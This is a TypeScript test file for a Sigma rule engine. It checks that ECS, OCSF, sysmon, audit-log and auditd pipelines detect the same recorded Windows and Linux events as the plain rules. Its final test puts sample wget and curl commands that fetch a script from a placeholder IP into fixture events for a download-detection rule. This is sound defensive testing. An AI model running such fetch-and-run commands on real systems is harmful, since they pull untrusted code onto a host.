// The built-in pipelines against recorded events: the public rules through a pipeline find in events of another make what the plain rules find in the events as recorded.
// The other make is ECS as Winlogbeat ships it (a converter of its own, ecs.fixture.ts) and OCSF as @haechi/records builds it. What differs is listed, and nothing else may.
// HAECHI_TEST_FULL=1 takes every event of the lane in the place of every 15th.
import { Readable } from 'node:stream'
import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import { readRecord, splitRecords, windowsCategories, windowsChannels } from '@haechi/records'
import { CURRENT, PINNED, archived, jsonOf, laneLines, missing, rulesOf } from './corpus.fixture.ts'
import { applyPipelines, builtInPipelines, createMatcher, link, parse, parsePipeline } from './index.ts'
import type { LogSource, Pipeline, Rule } from './index.ts'
import type { Read } from './matcher.ts'
import { ecsOf } from './pipelines/ecs.fixture.ts'

const full = process.env['HAECHI_TEST_FULL'] === '1'
const CORPUS = resolve(import.meta.dirname, '../../..', process.env['HAECHI_CORPUS'] ?? '../shared/data')

/** What the engine is told of a converted event: its fields, and nothing of where it is from. */
const MAKES: Readonly<Record<'ecs' | 'ocsf', Read>> = {
  ecs: (record) => ({ shape: 'unknown', logSource: {}, fields: ecsOf(record) }),
  ocsf: (record) => ({ shape: 'unknown', logSource: {}, fields: readRecord(record).ocsf }),
}

const through = (rules: readonly Rule[], ...pipelines: readonly Pipeline[]): Rule[] => {
  const { rules: changed, rejected } = applyPipelines(link({ rules, correlations: [], filters: [] }), pipelines)
  expect(rejected).toEqual([])
  return changed
}

function hits(rules: readonly Rule[], lines: readonly string[], source: LogSource | 'detect', read?: Read): Set<string> {
  return new Set(createMatcher(rules, {}, read).match(Buffer.from(lines.join('\n')), source).map(({ eventIndex, rule }) => `${eventIndex} ${rule.title}`))
}

/** Titles of rules, each with how many events it has in one set and not in the other. */
function beyond(set: ReadonlySet<string>, other: ReadonlySet<string>): Record<string, number> {
  const found: Record<string, number> = {}
  for (const hit of set) {
    const title = hit.slice(hit.indexOf(' ') + 1)
    if (!other.has(hit)) found[title] = (found[title] ?? 0) + 1
  }
  return found
}

describe.skipIf(missing !== false)('recorded events', () => {
  let rules: Rule[] = []
  let lines: string[] = []
  let plain: Set<string> = new Set()
  let texts: [string, string][] = []
  beforeAll(() => {
    rules = rulesOf(PINNED).rules.filter(({ logsource }) => logsource.product === 'windows')
    lines = laneLines('otrf-lane-balanced-30k').filter((_, index) => full || index % 15 === 0)
    plain = hits(rules, lines, 'detect')
    texts = [...archived(CURRENT, '.yml')]
  }, 300_000)

  test('there is something to find', () => expect([rules.length, lines.length, plain.size]).toEqual([2396, ...(full ? [30_000, 2293] : [2000, 164])]))

  test('ecs finds the same', () => {
    const found = hits(through(rules, builtInPipelines.ecs), lines, {}, MAKES.ecs)
    expect([beyond(plain, found), beyond(found, plain)]).toEqual([{}, {}])
  }, 300_000)

  test('ocsf finds the same, and where an OCSF event says less, more', () => {
    const found = hits(through(rules, builtInPipelines.ocsf), lines, {}, MAKES.ocsf)
    const more = beyond(found, plain)
    // A digest is compared with all digests of the file, whatever their algorithm.
    const digest = ['HackTool - Dumpert Process Dumper Execution', 'Hidden Executable In NTFS Alternate Data Stream']
    // `-` for an address is no address, so a filter on it takes nothing out.
    const dash = ['External Remote SMB Logon from Public IP']
    // A connection in the audit log is of the class of Sysmon's, with the path of the device.
    const audited = ['Uncommon Outbound Kerberos Connection']
    expect(beyond(plain, found)).toEqual({})
    expect(Object.keys(more).filter((title) => ![...digest, ...dash, ...audited].includes(title))).toEqual([])
    if (full) expect(more).toEqual({ [digest[0] as string]: 7, [digest[1] as string]: 10, [dash[0] as string]: 3, [audited[0] as string]: 1 })
  }, 300_000)

  test('sysmon and windows-channels tell what the log source would', () => {
    // Nobody says what the events are: only the conditions do.
    const found = hits(through(rules, builtInPipelines.sysmon, builtInPipelines['windows-channels']), lines, { product: 'windows' })
    const lost = [...plain].filter((hit) => !found.has(hit))
    expect(beyond(found, plain)).toEqual({})
    const byAudit = lost.filter((hit) => Number((JSON.parse(lines[Number.parseInt(hit, 10)] as string) as { EventID: unknown }).EventID) === 4688)
    expect([lost.length - byAudit.length, lost.length > 0]).toEqual([0, true])
  }, 300_000)

  test('windows-audit finds processes by the names of the audit log', () => {
    const audited = lines.filter((line) => Number((JSON.parse(line) as { EventID: unknown }).EventID) === 4688)
    const created = rules.filter(({ logsource }) => logsource.category === 'process_creation')
    const asWritten: Read = (record) => ({ ...readRecord(record), fields: record as Record<string, unknown> })
    const expected = hits(created, audited, 'detect')
    const found = hits(through(created, builtInPipelines['windows-audit']), audited, 'detect', asWritten)
    expect([expected.size > 0, beyond(expected, found), beyond(found, expected)]).toEqual([true, {}, {}])
  })

  test.each(['ecs', 'ocsf'] as const)('%s: each regression sample fires its rule', async (make) => {
    const index = jsonOf<{ rule_id: string; tests: { json: string; match_count: number }[] }[]>('sigma-regression/index.json')
    const files = new Map([...archived('sigma-regression/sigma-regression.tar.gz', '.json'), ...archived('sigma-regression/sigma-regression.tar.gz', 'rule.yml')])
    for (const { rule_id: id, tests } of index) {
      const own = through(parse(files.get(`${id}/rule.yml`) as string, `${id}/rule.yml`).rules, builtInPipelines[make])
      for (const sample of tests) {
        const events: string[] = []
        for await (const batch of splitRecords(Readable.from([Buffer.from(files.get(sample.json) as string)]), { name: sample.json })) {
          for (const record of batch) if (record.bytes !== undefined) events.push(Buffer.from(record.bytes).toString())
        }
        expect([id, hits(own, events, 'detect', MAKES[make]).size >= sample.match_count]).toEqual([id, true])
      }
    }
  })

  test('every public rule goes through every pipeline', () => {
    const all = texts.flatMap(([file, text]) => parse(text, file).rules)
    for (const pipeline of Object.values(builtInPipelines)) {
      const changed = through(all, structuredClone(pipeline))
      expect(changed).toHaveLength(all.length)
    }
    // ecs behind sysmon: the event ids are renamed with the rest.
    expect(through(all, builtInPipelines.sysmon, builtInPipelines.ecs)).toHaveLength(all.length)
  })

  test('placeholders: with values, and with any value', () => {
    const unresolved = texts.filter(([, text]) => text.includes('expand')).flatMap(([file, text]) => parse(text, file).rejected.map(({ code }) => ({ file, text, code })))
    expect(unresolved.map(({ code }) => code)).toEqual(unresolved.map(() => 'placeholder_unresolved'))
    const names = new Set(unresolved.flatMap(({ text }) => [...text.matchAll(/%([^%\s]+)%/g)].map(([, name]) => name as string)))
    const vars = JSON.stringify(Object.fromEntries([...names].map((name) => [name, [`${name}-1`, `${name}-2*`]])))
    const read = (yaml: string): Pipeline => (parsePipeline(yaml, 'p.yml') as { pipeline: Pipeline }).pipeline
    const valued = read(`vars: ${vars}\ntransformations: [{type: value_placeholders}]`)
    const open = read('transformations: [{type: wildcard_placeholders}]')
    for (const pipeline of [valued, open]) expect(unresolved.flatMap(({ file, text }) => parse(text, file, { placeholders: [pipeline] }).rejected)).toEqual([])
    expect(unresolved.length).toBe(25)
  })
})

describe.skipIf(missing !== false)('facts', () => {
  test('categories and channels are those of SigmaHQ', () => {
    const thor = readFileSync(join(CORPUS, 'sigma-rules/logsource/thor.yml'), 'utf8')
    let seen = 0
    for (const [, category = '', id, service] of thor.matchAll(/category: (\w+)\n\s+product: windows\n\s+conditions:\n\s+EventID: (\d+)\n\s+rewrite:\n\s+product: windows\n\s+service: ([\w-]+)/g)) {
      seen += 1
      expect([category, windowsCategories.get(category)?.find((events) => events.service === service)?.ids.includes(Number(id))]).toEqual([category, true])
    }
    for (const [, service = '', sources = ''] of thor.matchAll(/product: windows\n\s+service: ([\w-]+)\n\s+sources:\n((?:\s+- ["']?WinEventLog:[^\n]+\n)+)/g)) {
      for (const [, channel = ''] of sources.matchAll(/WinEventLog:([^"'\n]+)/g)) {
        seen += 1
        // Its rules call it microsoft-servicebus-client.
        const called = service === 'servicebus-client' ? `microsoft-${service}` : service
        expect([service, channel, windowsChannels.get(called)?.includes(channel.toLowerCase())]).toEqual([service, channel, true])
      }
    }
    expect(seen).toBeGreaterThan(70)
  })
})

test('agent: rules for new processes find what auditd wrote', () => {
  const event = (exe: string, title: string): string => JSON.stringify({ message: [
    `type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=11 auid=1000 uid=0 ses=3 comm="x" exe="${exe}" key="exec"`,
    `type=EXECVE msg=audit(1700000000.123:42): argc=1 a0="x"`,
    `type=PROCTITLE msg=audit(1700000000.123:42): proctitle=${Buffer.from(title.replaceAll(' ', '\0')).toString('hex').toUpperCase()}`,
  ].join('\n') })
  const lines = [event('/usr/bin/wget', 'wget http://192.0.2.7/a.sh'), event('/usr/bin/curl', 'curl http://192.0.2.7/a.sh'), event('/usr/bin/wget', 'wget --help')]
  const { rules } = parse(`title: Download\nid: d\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {"Image|endswith": /wget, "CommandLine|contains": http}\n  condition: s\n`, 'r.yml')
  expect(hits(rules, lines, 'detect')).toEqual(new Set())
  expect(hits(through(rules, builtInPipelines.agent), lines, 'detect')).toEqual(new Set(['0 Download']))
})
